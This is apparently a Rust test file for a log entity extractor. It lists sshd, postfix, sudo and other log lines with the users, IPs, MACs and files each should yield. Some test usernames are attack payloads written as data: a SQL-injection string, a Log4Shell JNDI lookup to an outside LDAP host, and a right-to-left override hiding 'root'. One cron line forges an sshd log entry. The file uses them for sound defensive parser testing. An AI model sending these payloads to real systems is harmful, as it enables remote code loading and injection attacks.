//! Hard cases, one line each: what must come out, whether a rule fits or not, without the header's
//! host and process. An empty place means: nothing, because nothing in the line is an entity.

use super::build::{event, shown};
use crate::roles::RoleSet;

/// Program, message, what it gives.
const CASES: [(&str, &str, &str); 106] = [
    // `for invalid user` is a word of the program, not a name.
    (
        "sshd",
        "Failed password for invalid user admin from 203.0.113.9 port 22 ssh2",
        "actor user admin; src ip 203.0.113.9",
    ),
    (
        "sshd",
        "Failed password for invalid user invalid user from 203.0.113.9 port 22 ssh2",
        "actor user invalid user; src ip 203.0.113.9",
    ),
    (
        "sshd",
        "Failed password for illegal user a from 203.0.113.9 port 22 ssh2",
        "actor user a; src ip 203.0.113.9",
    ),
    ("sshd", "Invalid user  from 203.0.113.9 port 22", "src ip 203.0.113.9"),
    (
        "sshd",
        "Invalid user 198.51.100.9 from 203.0.113.9 port 22",
        "actor user 198.51.100.9; src ip 203.0.113.9",
    ),
    (
        "sshd",
        "Invalid user 52:54:00:12:34:56 from 203.0.113.9 port 22",
        "actor user 52:54:00:12:34:56; src ip 203.0.113.9",
    ),
    (
        "sshd",
        "Invalid user ' OR 1=1 -- from 203.0.113.9 port 22",
        "actor user ' or 1=1 --; src ip 203.0.113.9",
    ),
    (
        "sshd",
        "Invalid user ${jndi:ldap://198.51.100.9/a} from 203.0.113.9 port 22",
        "actor user ${jndi:ldap://198.51.100.9/a}; src ip 203.0.113.9",
    ),
    (
        "sshd",
        "Invalid user \u{202e}toor from 203.0.113.9 port 22",
        "actor user \u{202e}toor; src ip 203.0.113.9",
    ),
    // IPv6 with zone, port, brackets.
    (
        "sshd",
        "Failed password for root from fe80::1%eth0 port 22 ssh2",
        "actor user root; src ip fe80:0000:0000:0000:0000:0000:0000:0001",
    ),
    (
        "sshd",
        "Failed password for root from ::ffff:203.0.113.9 port 22 ssh2",
        "actor user root; src ip 203.0.113.9",
    ),
    ("app", "client [2001:db8::9]:4242 gone", "src ip 2001:0db8:0000:0000:0000:0000:0000:0009"),
    ("app", "peer=[fe80::1%eth0]:443 gone", "src ip fe80:0000:0000:0000:0000:0000:0000:0001"),
    ("app", "client=2001:DB8::A gone", "src ip 2001:0db8:0000:0000:0000:0000:0000:000a"),
    ("app", "src_ip=2001:DB8::A gone", "src ip 2001:0db8:0000:0000:0000:0000:0000:000a"),
    // Users with a domain.
    (
        "sshd",
        "Accepted password for user@corp.com from 203.0.113.9 port 22 ssh2",
        "actor user corp.com:user; src ip 203.0.113.9",
    ),
    (
        "sshd",
        "Accepted password for CORP\\bob from 203.0.113.9 port 22 ssh2",
        "actor user corp:bob; src ip 203.0.113.9",
    ),
    (
        "sshd",
        "Accepted password for CORP\\\\bob from 203.0.113.9 port 22 ssh2",
        "actor user corp:bob; src ip 203.0.113.9",
    ),
    ("app", "login failed for CORP\\bob", "actor user corp:bob"),
    ("app", "login failed for user user@corp.com", "actor user corp.com:user"),
    // Programs in code and their messages.
    ("app", "std::vector<int> grew past its limit", ""),
    ("app", "in std::map<std::string, a::b>::at", ""),
    ("app", "core::fmt::Display is not implemented for d::e", ""),
    ("app", "java.lang.IllegalStateException: null", ""),
    ("app", "at com.example.auth.User.login(User.java:42)", ""),
    ("app", "Caused by: org.example.net.Client$Inner", ""),
    ("app", "TypeError: Cannot read properties of undefined (reading 'user')", ""),
    ("app", "panicked at src/main.rs:10:5", ""),
    ("app", "goroutine 7 [running]: main.main()", ""),
    ("app", "File \"app.py\", line 4, in login", ""),
    ("app", "com.example.Thing@33557fe4 closed", ""),
    // Versions and other numbers with dots.
    ("app", "version 10.0.0.1 of the schema", ""),
    ("app", "agent v1.2.3.4 started", ""),
    ("app", "library 1.2.3.4.5 loaded", ""),
    ("app", "upgraded from 1.2.3.4 to 1.2.3.5", ""),
    ("app", "foo-1.2.3.4.tar.gz unpacked", ""),
    ("app", "OID 1.3.6.1.4.1.311 is unknown", ""),
    ("app", "999.1.1.1 and 1.2.3.256 and 01.2.3.4", ""),
    ("app", "loss 0.1.2.3 of 4", ""),
    // Times that look like addresses.
    ("app", "elapsed 12::34", ""),
    ("app", "elapsed 12:34:56 of 01:02:03", ""),
    ("app", "at 10:00:00.123456 it was 10:00", ""),
    ("app", "window 00:00:00:00", ""),
    ("app", "2026-11-25T10:00:00Z is past", ""),
    ("app", "QuorumPeer 0:0:0:0:0:0:0:0:2181", ""),
    ("app", "infiniband 00:11:22:33:44:55:66:77 up", ""),
    // Hardware addresses are no addresses of the network.
    ("dhcpd", "DHCPDISCOVER from 52:54:00:12:34:56 via eth0", "src mac 52:54:00:12:34:56"),
    (
        "hostapd",
        "wlan0: STA aa:bb:cc:dd:ee:ff IEEE 802.11: associated (aid 1)",
        "src mac aa:bb:cc:dd:ee:ff",
    ),
    ("kernel", "[1.2] eth0: renamed from 52:54:00:12:34:56", ""),
    // Hashes, ids, encodings.
    ("app", "commit 9fceb02d0ae598e95dc970b74767f19372d61af8 deployed", ""),
    ("app", "commit 9fceb02 deployed", ""),
    ("app", "request 6f1c2a9e-0d3b-4f5a-8c7d-1e2f3a4b5c6d done", ""),
    ("app", "tenant 54fadb412c4e40cdbaed9335e4c35a9e", ""),
    ("app", "blob dXNlcj1yb290IGZyb20gMTk4LjUxLjEwMC45 stored", ""),
    ("app", "token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib2IifQ.c2ln stored", ""),
    ("app", "etag W/\"5f-19a2\" matched", ""),
    // Clouds and clusters.
    ("app", "pod web-5d8f6c7b9-x2x4z restarted", ""),
    ("app", "wrote arn:aws:s3:::bucket/key", ""),
    ("app", "image registry.example.com/team/app:1.2.3.4 pulled", ""),
    (
        "kubelet",
        "\"SyncLoop ADD\" source=\"api\" pods=[\"default/web-5d8f6c7b9-x2x4z\"]",
        "object container default/web-5d8f6c7b9-x2x4z",
    ),
    // Paths.
    ("app", "path C:\\temp", ""),
    ("app", "\\\\server\\share", ""),
    ("app", "key HKLM\\Software\\Vendor", ""),
    ("app", "ERROR\\nCaused by x", ""),
    (
        "nginx",
        "open() \"/srv/my files/a b.html\" failed (2: No such file or directory), client: 203.0.113.9, server: _",
        "object file /srv/my files/a b.html; src ip 203.0.113.9",
    ),
    (
        "sftp-server",
        "open \"/home/bob/from 198.51.100.9 to root\" flags READ mode 0666",
        "object file /home/bob/from 198.51.100.9 to root",
    ),
    ("app", "ratio 3/4 at //", ""),
    // Mail headers and identities.
    ("postfix/cleanup", "4F2A: message-id=<20261125.812@mail.example.org>", ""),
    ("postfix/qmgr", "4F2A: from=<>, size=12, nrcpt=1 (queue active)", ""),
    (
        "postfix/cleanup",
        "4F2A: warning: header From: \"root\" <a@example.org> from x[198.51.100.9]",
        "",
    ),
    (
        "postfix/smtpd",
        "NOQUEUE: reject: EHLO from unknown[203.0.113.9]: 504 5.5.2 <[198.51.100.9]>: Helo command rejected; proto=SMTP helo=<[198.51.100.9]>",
        "src ip 203.0.113.9",
    ),
    ("app", "mail to nobody@", ""),
    ("app", "@ @@ a@ @b", ""),
    // Names of hosts that look like users and the other way round.
    (
        "sshd",
        "Failed password for web-1 from web-2 port 22 ssh2",
        "actor user web-1; src host web-2",
    ),
    ("sshd", "Failed password for root from root port 22 ssh2", "actor user root; src host root"),
    ("su", "(to postgres) web-1 on pts/3", "target user postgres; actor user web-1"),
    ("login", "FAILED LOGIN 1 FROM tty1 FOR tty2, Authentication failure", "actor user tty2"),
    (
        "sshd(pam_unix)",
        "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=user  user=host",
        "src host user; actor user host",
    ),
    (
        "dhcpd",
        "DHCPACK on 192.0.2.50 to 52:54:00:12:34:56 (root) via eth0",
        "src ip 192.0.2.50; src mac 52:54:00:12:34:56; src host root",
    ),
    // SQL, user agents, URLs.
    (
        "postgres",
        "LOG:  statement: SELECT 'from 198.51.100.9', user FROM login WHERE user='root'",
        "",
    ),
    ("postgres", "LOG:  statement: GRANT ALL ON db TO \"eve\"", ""),
    (
        "mysqld",
        "812 [Note] Aborted connection 812 to db: 'user' user: 'host' host: 'db' (x)",
        "actor user host; src host db",
    ),
    ("app", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0.0.0 Safari/537.36", ""),
    ("app", "redirect ?user=bob&client_ip=h1.example.net", ""),
    ("app", "if (user == admin) return", ""),
    ("app", "SELECT * FROM users WHERE id=7", ""),
    // Words that follow `user` and are none.
    ("app", "user unknown", ""),
    ("app", "user name is empty", ""),
    ("app", "User authentication failed", ""),
    ("app", "user session for the group", ""),
    ("app", "superuser bob-like", ""),
    ("app", "for user ", ""),
    ("app", "user= rhost= client_ip=", ""),
    ("app", "user=null host=- src_ip=unknown", ""),
    ("sshd", "Failed none for invalid user  from UNKNOWN port 22 ssh2", ""),
    // Listening anywhere is nowhere.
    ("sshd", "Server listening on 0.0.0.0 port 22.", ""),
    ("sshd", "Server listening on :: port 22.", ""),
    ("app", "listening on [::]:80", ""),
    ("app", "route 10.0.0.0/8 added", ""),
    // A program that is not what it sounds like, and text that a program only passes on.
    ("xsshd", "Failed password for root from 203.0.113.9 port 22 ssh2", "src ip 203.0.113.9"),
    ("sudoku", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", "actor user root"),
    ("systemd", "Started Failed password for root from 198.51.100.9.", ""),
    ("kernel", "[1.2] usb 1-1: Manufacturer: IN=eth0 OUT= SRC=198.51.100.9 DST=198.51.100.8", ""),
    (
        "cron",
        "(bob) CMD (logger -t sshd 'Failed password for root from 198.51.100.9 port 1 ssh2')",
        "actor user bob",
    ),
    (
        "sudo",
        "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su - eve",
        "actor user bob; target user root; object file /bin/su",
    ),
    (
        "haproxy",
        "2001:db8::9:8080 [25/Nov/2026:10:00:00.123] in db/pg1 1/0/5 212 -- 1/1/0/0/0 0/0",
        "src ip 2001:0db8:0000:0000:0000:0000:0000:0009",
    ),
];

#[test]
fn nothing_else_comes_out() {
    let mut roles = RoleSet::bundled();
    let mut mistakes = String::new();
    for (program, message, expected) in CASES {
        let mut event = event("h1", program, message);
        roles.apply(&mut event);
        let process = format!("; object process h1/{}", program.split('(').next().unwrap());
        let got = shown(&event);
        let got = got.split_once("; ").map_or("", |(_, entities)| entities);
        let got = format!("; {got}");
        let got = got.strip_suffix(&process).unwrap_or(&got);
        let host = [" target host h1", " observer host h1"];
        let got = host.iter().find_map(|host| got.strip_suffix(host)).unwrap_or(got);
        let got = got.trim_matches([';', ' ']);
        if got != expected {
            mistakes += &format!("{program} | {message}\n   gives {got}\n     not {expected}\n");
        }
    }
    assert!(mistakes.is_empty(), "\n{mistakes}");
}
